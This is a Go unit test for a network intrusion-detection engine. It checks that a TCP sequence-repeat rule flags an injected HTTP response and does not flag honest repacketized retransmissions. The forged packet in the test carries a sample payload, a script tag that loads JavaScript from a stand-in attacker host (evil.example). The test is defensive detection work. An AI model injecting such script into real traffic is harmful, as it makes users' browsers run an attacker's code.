package detect

import (
	"bytes"
	"testing"

	"github.com/flowhawk/flowhawk/collector"
)

// TestSeqRepeatInjectionSameHead: an injected HTTP response and the real
// one share their first 16 bytes ("HTTP/1.1 200 OK\r") and differ in
// length; comparing only those bytes called them a retransmission. A
// retransmission that TCP repacketized (the lost segment and the next one
// in one larger segment, or a smaller one after a PMTU drop) still
// raises nothing.
func TestSeqRepeatInjectionSameHead(t *testing.T) {
	e, c := newTest(t, only("seqrepeat"))
	real := append([]byte("HTTP/1.1 200 OK\r\nDate: Mon, 01 Jan 2026 00:00:00 GMT\r\nContent-Length: 1234\r\n\r\n"), bytes.Repeat([]byte("r"), 1300)...)
	forged := []byte("HTTP/1.1 200 OK\r\nContent-Length: 60\r\n\r\n<script src=http://evil.example/x.js></script>")
	p := pkt(t0, "10.0.0.80", "10.0.0.9", 80, 50000, 6, collector.FlagACK|collector.FlagPSH, forged)
	p.TCPSeq = 1000
	e.OnPacket(p)
	q := pkt(t0+sec/100, "10.0.0.80", "10.0.0.9", 80, 50000, 6, collector.FlagACK|collector.FlagPSH, real)
	q.TCPSeq = 1000
	e.OnPacket(q)

	// Honest repacketized retransmissions on another connection.
	stream := bytes.Repeat([]byte("0123456789abcdefghijklmnopqrstuvwxyz"), 200)
	for i, n := range []int{1448, 2896, 1200, 1448, 100} {
		r := pkt(t0+2*sec+int64(i)*sec, "10.0.0.81", "10.0.0.9", 443, 50001, 6, collector.FlagACK, stream[:n])
		r.TCPSeq = 5000
		e.OnPacket(r)
	}
	e.Close()
	if len(c.alerts) != 1 || c.alerts[0].Rule != "seqrepeat.conflict" || c.alerts[0].Src.String() != "10.0.0.80" {
		t.Fatalf("got %v %+v", c.rules(), c.alerts)
	}
}
